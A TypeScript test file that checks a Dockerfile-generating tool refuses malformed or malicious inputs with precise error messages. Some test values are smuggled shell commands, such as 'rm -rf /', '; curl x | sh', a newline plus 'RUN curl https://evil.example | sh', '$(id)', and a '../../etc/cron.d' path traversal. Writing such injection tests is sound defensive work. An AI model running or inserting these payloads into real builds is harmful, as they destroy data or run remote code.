/**
 * Bad input, case by case: each asserts the exact error text (what, where, and the fix), that it is
 * a StagewrightError (never a stack trace), and — for everything that goes through the CLI — that
 * nothing was written.
 */
import { tempDir } from "./support/tmp.ts";
import { existsSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import {
  StagewrightError,
  add,
  artifact,
  buildNeed,
  cacheMount,
  copy,
  defineStage,
  env,
  expectAt,
  image,
  label,
  parseLock,
  pathArg,
  recipeFromStages,
  run,
  stringArg,
  versionArg,
  type AnyStage,
} from "../src/index.ts";
import { runCli } from "../src/cli.ts";
import { builtinRecipes, recipeAliases } from "../recipes/index.ts";
import { alignedStages } from "../recipes/aligned.ts";
import { awsSdkCpp, cudaDlBase, doca, efaDrivers, etcdCppApi, gusli, libfabric, nixl, nixlImageRows, nixlLinkage, runtime } from "../stages/index.ts";

const ctx = { builtins: builtinRecipes, aliases: recipeAliases, compareRows: nixlImageRows, critical: nixlLinkage };

/** Run the CLI with --out into a fresh directory; return the first error line and whether anything was written. */
async function cliRefusal(...argv: string[]): Promise<{ line: string; wrote: boolean; code: number }> {
  const dir = join(tempDir("stagewright-bad-"), "out");
  let err = "";
  const code = await runCli([...argv, "--out", dir], ctx, { out: () => undefined, err: (t) => (err += t) });
  return { line: err.split("\n")[0] ?? "", wrote: existsSync(dir), code };
}

function refusals(f: () => unknown): readonly string[] {
  try {
    f();
  } catch (e) {
    expect(e).toBeInstanceOf(StagewrightError);
    return (e as StagewrightError).problems;
  }
  throw new Error("expected a refusal");
}
const refusal = (f: () => unknown): string => refusals(f)[0]!;

const base = defineStage({ name: "base", description: "b", from: image("debian:bookworm"), steps: [run("true")] });
const stageWith = (steps: Parameters<typeof defineStage>[0]["steps"]) => defineStage({ name: "s", description: "s", from: base, steps });
const render = (s: AnyStage) => recipeFromStages("r", [base, s]).render();

describe("values from the command line (render --set ... --out DIR)", () => {
  const cases: [string, string][] = [
    ["LIBFABRIC_VERSION=", "ARG LIBFABRIC_VERSION: an empty value is not a version: give a pinned version such as 1.2.3"],
    ["LIBFABRIC_VERSION=latest", 'ARG LIBFABRIC_VERSION: "latest" is not a pinned version: give an exact version such as 1.2.3'],
    ["LIBFABRIC_VERSION=1.2.3; rm -rf /", 'ARG LIBFABRIC_VERSION: "1.2.3; rm -rf /" is not a version: use digits, letters, ".", "-" and "+" only, e.g. v1.21.0'],
    ["LIBFABRIC_VERSION=v2.\u04173.0", 'ARG LIBFABRIC_VERSION: "v2.\u04173.0" is not a version: use digits, letters, ".", "-" and "+" only, e.g. v1.21.0'],
    ["LIBFABRIC_VERSION=\uff562.3.0", 'ARG LIBFABRIC_VERSION: "\uff562.3.0" is not a version: use digits, letters, ".", "-" and "+" only, e.g. v1.21.0'],
    ["LIBFABRIC_VERSION=v2.3.$X", 'ARG LIBFABRIC_VERSION: "v2.3.$X" is not a version: use digits, letters, ".", "-" and "+" only, e.g. v1.21.0'],
    ["UCX_VERSION=v1.19.0\nRUN id", 'ARG UCX_VERSION: "v1.19.0\\nRUN id" is not a version: use digits, letters, ".", "-" and "+" only, e.g. v1.21.0'],
    ["LIBFABRIC_INSTALL_PATH=usr/local", 'ARG LIBFABRIC_INSTALL_PATH: "usr/local" is not an absolute path: start it with /'],
    ["LIBFABRIC_INSTALL_PATH=/usr/local/../x", 'ARG LIBFABRIC_INSTALL_PATH: "/usr/local/../x" is not a normalised path: write it without //, /./, /../ or a trailing /'],
    ["LIBFABRIC_INSTALL_PATH=/usr//local", 'ARG LIBFABRIC_INSTALL_PATH: "/usr//local" is not a normalised path: write it without //, /./, /../ or a trailing /'],
    ["LIBFABRIC_INSTALL_PATH=/usr/local/", 'ARG LIBFABRIC_INSTALL_PATH: "/usr/local/" is not a normalised path: write it without //, /./, /../ or a trailing /'],
    ["LIBFABRIC_INSTALL_PATH=/opt/my lib", 'ARG LIBFABRIC_INSTALL_PATH: "/opt/my lib" holds characters a prefix must not hold (spaces, $, quotes, ...): use letters, digits and . _ - + / only'],
    ["LIBFABRIC_INSTALL_PATH=/opt/$HOME", 'ARG LIBFABRIC_INSTALL_PATH: "/opt/$HOME" holds characters a prefix must not hold (spaces, $, quotes, ...): use letters, digits and . _ - + / only'],
    ['NIXL_PREFIX=/opt/x"; id; echo "', 'ARG NIXL_PREFIX: "/opt/x\\"; id; echo \\"" holds characters a prefix must not hold (spaces, $, quotes, ...): use letters, digits and . _ - + / only'],
    ["BASE_TAG=latest", 'ARG BASE_TAG: "latest" is not an image tag, optionally pinned by digest (<tag> or <tag>@sha256:<64 hex digits>; never latest)'],
    ["BASE_TAG=25.06-cuda12.9-devel-ubuntu24.04@sha256:abc", 'ARG BASE_TAG: "25.06-cuda12.9-devel-ubuntu24.04@sha256:abc" is not an image tag, optionally pinned by digest'],
    ["UV_IMAGE=ghcr.io/astral-sh/uv:latest", 'ARG UV_IMAGE: "ghcr.io/astral-sh/uv:latest" is not an image reference pinned by digest (<repository>:<tag>@sha256:<64 hex digits>)'],
    ["UV_IMAGE=ghcr.io/astral-sh/uv:0.9.7", 'ARG UV_IMAGE: "ghcr.io/astral-sh/uv:0.9.7" is not an image reference pinned by digest'],
    ["SOURCE_MIRROR=https://mirror.internal/a b", 'ARG SOURCE_MIRROR: "https://mirror.internal/a b" is not empty, an http(s) URL or a file:///absolute/path, without spaces, quotes or $'],
    ["NIXL_BUILD_TYPE=fast", 'ARG NIXL_BUILD_TYPE: "fast" is not one of "release", "debug"'],
    ["ARCH=aarch64", "ARG ARCH follows the platform (computed from TARGETARCH): choose the platform instead, --platform linux/arm64 for the build script or PLATFORMS=linux/arm64 for bake"],
    ["TARGETARCH=arm64", "ARG TARGETARCH follows the platform (set by BuildKit): choose the platform instead, --platform linux/arm64 for the build script or PLATFORMS=linux/arm64 for bake"],
    ["LIBFABRIC_SHA256=abc", 'ARG LIBFABRIC_SHA256: "abc" is not 64 lower-case hex digits (or empty)'],
    ["NO_SUCH_ARG=1", "ARG NO_SUCH_ARG is not an ARG of this recipe; its ARGs are: "],
    ["=1", "--set =1: expected KEY=VALUE, e.g. --set LIBFABRIC_VERSION=v2.3.0"],
    ["LIBFABRIC_VERSION=v1.21.0", "stage nixl: NIXL 0.7.1 needs libfabric >= v2.3.0rc2 (or EFA installer >= 1.43.2) but stage libfabric builds libfabric v1.21.0"],
  ];
  test.each(cases)("--set %j", async (set, message) => {
    const r = await cliRefusal("render", "aligned", "--set", set);
    expect(r.code).toBe(1);
    expect(r.line.startsWith(`stagewright render: ${message}`), r.line).toBe(true);
    expect(r.wrote).toBe(false);
  });
  // The aligned image takes the base's NCCL by default (no NCCL ARGs); the production recipe builds NCCL.
  test("--set NCCL_GENCODE with a shell command, on a recipe that builds NCCL", async () => {
    const r = await cliRefusal("render", "production", "--set", "NCCL_GENCODE=-gencode=arch=compute_90,code=sm_90; curl x | sh");
    expect(r.code).toBe(1);
    expect(r.line.startsWith('stagewright render: ARG NCCL_GENCODE: "-gencode=arch=compute_90,code=sm_90; curl x | sh" is not one or more -gencode=arch=compute_NN,code=sm_NN'), r.line).toBe(true);
    expect(r.wrote).toBe(false);
  });
});

describe("values files and recipe files", () => {
  const dir = tempDir("stagewright-values-");
  const file = (name: string, text: string) => {
    const p = join(dir, name);
    writeFileSync(p, text);
    return p;
  };
  const cases: [string, string, string][] = [
    ["wrong type", "args:\n  UCX_VERSION: 1.20\n", ":2: args.UCX_VERSION must be a string, got number; quote it (UCX_VERSION: \"1.20\")"],
    ["unknown key", "arg:\n  UCX_VERSION: v1.19.0\n", "unknown key arg; a values file has args: (whole image) and stages: (per stage)"],
    ["unknown stage", "stages:\n  libfabrik:\n    LIBFABRIC_VERSION: v2.3.0\n", "stage libfabrik is not a stage of this recipe (did you mean libfabric?); its stages are: "],
    ["ARG the stage lacks", "stages:\n  ucx:\n    NIXL_VERSION: 0.7.1\n", "stage ucx has no ARG NIXL_VERSION; its ARGs are: "],
    ["a list", "- a\n", "expected a mapping with args: and/or stages:"],
    ["producer-only move", "stages:\n  libfabric:\n    LIBFABRIC_INSTALL_PATH: /opt/x\n", "nixl needs libfabric at /usr/local but stage libfabric installs it at /opt/x"],
  ];
  test.each(cases)("values file: %s", async (name, text, message) => {
    const p = file(`${name.replace(/\W+/g, "-")}.yaml`, text);
    const r = await cliRefusal("render", "aligned", "--values", p);
    expect(r.line).toContain(message);
    expect(r.wrote).toBe(false);
  });
  test.each([
    ["test/fixtures/recipes/throws.ts", "recipe file test/fixtures/recipes/throws.ts threw while building its recipe: boom in user code"],
    ["test/fixtures/recipes/empty.ts", "recipe file test/fixtures/recipes/empty.ts exports no recipe: export default recipe(...) or a function returning one"],
    ["test/fixtures/recipes/none.ts", "recipe file test/fixtures/recipes/none.ts does not exist"],
  ])("recipe file %s", async (path, message) => {
    const r = await cliRefusal("render", path);
    expect(r.line).toBe(`stagewright render: ${message}`);
    expect(r.wrote).toBe(false);
  });
});

test("a description with a line break stays one comment line (no instruction can be smuggled in)", () => {
  const s = defineStage({ name: "s", description: "line one\nRUN curl https://evil.example | sh", from: base, steps: [run("true")] });
  const text = recipeFromStages("r", [base, s], { description: "x\nUSER root" }).render();
  expect(text).toContain("# s line one RUN curl https://evil.example | sh\n");
  expect(text).toContain("# r x USER root\n");
  expect(text.split("\n").filter((l) => /^(RUN curl|USER root)/.test(l))).toEqual([]);
});

describe("ARG names Docker rejects", () => {
  test.each([
    ["UCX-REF", 'ARG "UCX-REF" is not a valid ARG name: use ASCII letters, digits and _, not starting with a digit'],
    ["1ABC", 'ARG "1ABC" is not a valid ARG name: use ASCII letters, digits and _, not starting with a digit'],
    ["", 'ARG "" is not a valid ARG name: use ASCII letters, digits and _, not starting with a digit'],
    ["A B", 'ARG "A B" is not a valid ARG name: use ASCII letters, digits and _, not starting with a digit'],
  ])("%j", (name, message) => {
    expect(refusal(() => versionArg(name as "X", "1.0.0", "d"))).toBe(message);
  });
});

describe("values that would break out of quoting", () => {
  test.each([
    ["ENV with $(...)", () => render(stageWith([env(["X", "$(id)"])])), 'ENV X: the value "$(id)" holds a $ that is not a variable reference: remove it'],
    ["ENV with a backtick", () => render(stageWith([env(["X", "`id`"])])), "ENV X: the value holds a backtick: remove it"],
    ["ENV with a newline", () => render(stageWith([env(["X", "a\nRUN id"])])), "ENV X: the value holds a line break or NUL: values must be one line"],
    ["ENV name", () => render(stageWith([env(["X Y", "1"])])), 'ENV name "X Y" is not a valid variable name'],
    ["LABEL key", () => render(stageWith([label(["a b", "1"])])), 'LABEL key "a b" holds characters a label key must not hold'],
    ["LABEL value with $(...)", () => render(stageWith([label(["a", "$(id)"])])), 'LABEL a: the value "$(id)" holds a $ that is not a variable reference: remove it'],
    ["COPY path with a space", () => render(stageWith([copy(["/a b"], "/c")])), 'COPY path "/a b" holds a space, quote or backslash'],
    ["ADD checksum", () => render(stageWith([add("https://example.org/x", "/x", "md5:abc")])), 'ADD https://example.org/x: checksum "md5:abc" is not sha256:<64 hex digits>'],
    ["RUN mount target", () => render(stageWith([run("true", { mounts: [cacheMount("/a,b")] })])), 'RUN --mount value "target=/a,b" holds a space, comma, quote or $'],
    ["ARG default with $(...)", () => render(defineStage({ name: "s", description: "s", from: base, args: [stringArg("X", "$(id)", /^.*$/, "anything", "d")], steps: [run('echo "${X}"')] })), 'ARG X: the value "$(id)" holds a $ that is not a variable reference: remove it'],
  ])("%s", (_name, f, message) => {
    expect(refusal(f)).toBe(message);
  });
});

describe("compositions", () => {
  const P = pathArg("P", "/opt/a", "p");
  const producer = (name: string, prefix: string) =>
    defineStage({ name, description: name, from: base, provides: { lib: artifact({ kind: "lib", producer: name, version: "1", prefix, delivery: { type: "in-image" } }) }, steps: [run("true")] });
  const a = producer("a", "/opt/a");
  const b = producer("b", "/opt/b");
  // A copy needs a staged install; an in-image artifact reaches a stage only through FROM.
  const staged = defineStage({ name: "b", description: "b", from: base, provides: { lib: artifact({ kind: "lib", producer: "b", version: "1", prefix: "/opt/b", delivery: { type: "staged", dir: "/opt/s/b" } }) }, steps: [run("true")] });
  test.each([
    ["duplicate stage names", () => recipeFromStages("r", [base, a, a]), "two stages are named a; stage names must be unique: rename one"],
    ["a stage FROM a later stage (a cycle in recipe order)", () => recipeFromStages("r", [base, defineStage({ name: "c", description: "c", from: a, steps: [run("true")] }), a]), "stage c is built FROM stage a, which is not in the recipe before c; add stage a before c"],
    ["a need with no producer", () => recipeFromStages("r", [base, defineStage({ name: "c", description: "c", from: base, needs: [expectAt("lib", "/opt/a")], steps: [run("true")] })]), "c needs lib but no earlier stage provides it; add a stage that provides lib before c"],
    ["two producers for a kind stated alone", () => recipeFromStages("r", [base, a, b, defineStage({ name: "c", description: "c", from: base, needs: [expectAt("lib", "/opt/a")], steps: [run("true")] })]), "c needs lib but stages a and b both provide it; take the lib artifact of one of them instead of stating the kind"],
    ["a need taken from a stage not in the recipe", () => recipeFromStages("r", [base, defineStage({ name: "c", description: "c", from: base, needs: [buildNeed(a.provides.lib)], steps: [run("true")] })]), "c needs lib from stage a, which is not in the recipe before c; add stage a before c"],
    ["a prefix that arrived as a plain string", () => recipeFromStages("r", [base, producer("a", "/opt/" + "x"), defineStage({ name: "c", description: "c", from: base, needs: [expectAt("lib", "/opt/a")], steps: [run("true")] })]), "c needs lib at /opt/a but stage a installs it at /opt/x; build c against the lib artifact of stage a, or install lib at /opt/a"],
    ["one ARG with two defaults", () => recipeFromStages("r", [base, defineStage({ name: "c", description: "c", from: base, args: [P], steps: [run("echo $P")] }), defineStage({ name: "d", description: "d", from: base, args: [pathArg("P", "/opt/b", "p")], steps: [run("echo $P")] })]), "ARG P defaults to /opt/a in stage c but to /opt/b in stage d; one image has one value per ARG: give both stages the same default"],
    ["two libfabrics in one image", () => recipeFromStages("r", [base, a, staged, defineStage({ name: "c", description: "c", from: a, needs: [buildNeed(staged.provides.lib)], steps: [run("true")] })]), 'stage c would hold two lib: /opt/a from stage a and /opt/b from stage b; keep one, or remove the other explicitly (removes: ["lib"])'],
    ["an in-image artifact needed outside its FROM chain", () => recipeFromStages("r", [base, b, defineStage({ name: "c", description: "c", from: base, needs: [buildNeed(b.provides.lib)], steps: [run("true")] })]), "c needs lib from stage b, which is part of that stage's image and cannot be copied, but c is not built FROM b; build c FROM stage b (or a stage built FROM it), or use a staged lib artifact"],
    ["an empty recipe", () => recipeFromStages("r", []), "recipe r has no stages; give it at least one stage"],
    ["a stage name Docker would not parse", () => defineStage({ name: "Base Stage", description: "b", from: image("debian:bookworm"), steps: [run("true")] }), 'stage name "Base Stage" is not usable: use lower-case letters, digits, ".", "_" and "-", starting with a letter (at most 63 characters)'],
    ["a recipe name that would escape the output directory", () => recipeFromStages("../../etc/cron.d/x", [base]), 'recipe name "../../etc/cron.d/x" is not usable: use lower-case letters, digits, ".", "_" and "-", starting with a letter (at most 63 characters)'],
  ])("%s", (_name, f, message) => {
    expect(refusals(f)).toContain(message);
  });
});

describe("stage options and version rules", () => {
  const s = alignedStages();
  test.each<readonly [string, () => unknown, string]>([
    ["an unknown option", () => libfabric(s.dc, { version: "v2.3.0", prefx: "/opt" } as never), "unknown option prefx for stage libfabric; remove it or use one of the options the stage declares"],
    // Hole 3 of issue 14: the runtime twin of the derived option type, for each stage whose typo compiled before.
    ...([
      ["etcd-cpp-api", "reff", () => etcdCppApi(s.dc, { reff: "abc" } as never)],
      ["base", "tagg", () => cudaDlBase(s.uv, { tagg: "x" } as never)],
      ["doca", "buidl", () => doca(s.base, { buidl: "3.1.0-091000-25.07" } as never)],
      ["aws-sdk-cpp", "verison", () => awsSdkCpp(s.dc, { verison: "1.11.581" } as never)],
      ["gusli", "comit", () => gusli(s.dc, { comit: "8b7a3b2" } as never)],
      ["runtime", "envv", () => runtime(s.dc, [], { envv: [] } as never)],
    ] as const).map(([stage, key, f]) => [`a typo in the options of ${stage}`, f, `unknown option ${key} for stage ${stage}; remove it or use one of the options the stage declares`] as const),
    ["a value of the wrong kind", () => libfabric(s.dc, { version: "v2.3.0", efa: "yes" } as never), 'libfabric, option efa: "yes" is not true or false'],
    // Issue 11 item 7: the DOCA key is pinned by its full fingerprint; a long key ID is not a pin.
    ["a key ID where the DOCA key's fingerprint belongs", () => doca(s.base, { keyFingerprint: "A024F6F0E6D6A281" }), 'doca, option keyFingerprint: "A024F6F0E6D6A281" is not 40 upper-case hex digits (the full fingerprint, not a key ID)'],
    ["a missing required option", () => nixl(s.py, { version: "0.7.1", etcd: s.etcd.provides.etcd } as never), "stage nixl: option ucx is required (the UCX to build the UCX plugin against (-Ducx_path from the artifact))"],
    ["an artifact of the wrong kind", () => nixl(s.py, { version: "0.7.1", ucx: s.fabric.provides.libfabric, etcd: s.etcd.provides.etcd } as never), "nixl, option ucx: the value is a libfabric artifact, not ucx: pass the ucx artifact of the stage that provides it"],
    ["an installer flag that does not exist", () => efaDrivers(s.base, { version: "1.43.3", libfabric: "provide", flags: ["--skip-libfabric"] } as never), "efa-drivers, option flags: --skip-libfabric is not one of --debug-packages, --enable-gdr, --mpi=openmpi4, --mpi=openmpi5, --check-signatures, --enable-ngc (the container flags -y --skip-kmod --skip-limit-conf --no-verify are always passed)"],
    ["an installer flag the installer version does not have", () => recipeFromStages("r", [s.uv, s.base, s.dc, efaDrivers(s.base, { version: "1.43.3" as string, libfabric: "minimal", flags: ["--enable-ngc"] })]), 'stage efa-drivers: EFA installer 1.43.3 has no --enable-ngc flag (first in 1.49.0) (rule efa-flag-version; source: https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/efa-start.html (installer options)); to build anyway, add an explicit override { rule: "efa-flag-version", reason: "..." }'],
    ["an installer mode that does not exist", () => efaDrivers(s.base, { version: "1.43.3", libfabric: "skip" } as never), 'efa-drivers, option libfabric: "skip" is not one of "provide", "hide", "minimal"'],
    ["NIXL 0.6.0 with a libfabric", () => recipeFromStages("r", [s.uv, s.base, s.dc, s.gdr, s.fabric, s.ucxBuild, s.etcd, s.py, nixl(s.py, { version: "0.6.0" as string, libfabric: s.fabric.provides.libfabric, ucx: s.ucxBuild.provides.ucx, etcd: s.etcd.provides.etcd })]), "stage nixl: NIXL 0.6.0 has no libfabric_path meson option and no LIBFABRIC plugin (both first in 0.6.1); use NIXL 0.6.1 or later (rule nixl-libfabric-option; source: https://github.com/ai-dynamo/nixl/pull/784); to build anyway, add an explicit override { rule: \"nixl-libfabric-option\", reason: \"...\" }"],
    ["an override of a rule the stage does not have", () => recipeFromStages("r", [s.uv, s.base, s.dc, s.gdr, s.fabric, s.ucxBuild, s.etcd, s.py, nixl(s.py, { version: "0.7.1", libfabric: s.fabric.provides.libfabric, ucx: s.ucxBuild.provides.ucx, etcd: s.etcd.provides.etcd, overrides: [{ rule: "nixl-everything", reason: "because I said so, really" }] })]), "stage nixl: override names rule nixl-everything, which the stage does not have; known rules: nixl-libfabric-option, nixl-libfabric-min, nixl-ucx-line, nixl-meta-setuptools, nixl-generated-for, nixl-meson-option, nixl-libfabric-gb200"],
    ["an override without a reason", () => recipeFromStages("r", [s.uv, s.base, s.dc, s.gdr, s.fabric, s.ucxBuild, s.etcd, s.py, nixl(s.py, { version: "0.7.1", libfabric: s.fabric.provides.libfabric, ucx: s.ucxBuild.provides.ucx, etcd: s.etcd.provides.etcd, overrides: [{ rule: "nixl-ucx-line", reason: "" }] })]), "stage nixl: the override of rule nixl-ucx-line needs a reason (at least a sentence) so the output says why"],
    ["a lock with a malformed checksum", () => parseLock("sources:\n  - id: x\n    version: '1'\n    url: https://e.org/x\n    sha256: abc\n    commit: null\n    source: s\n", "lock.yaml"), "lock.yaml: sources[0] (x): sha256 must be 64 lower-case hex digits"],
    ["a lock with an unknown key", () => parseLock("sources:\n  - id: x\n    version: '1'\n    url: https://e.org/x\n    sha256: null\n    commit: null\n    source: s\n    sha512: abc\n", "lock.yaml"), "lock.yaml: sources[0]: unknown key sha512; known keys: id, version, url, sha256, sha256_of, commit, fingerprint, source"],
  ])("%s", (_name, f, message) => {
    expect(refusal(f)).toBe(message);
  });
});
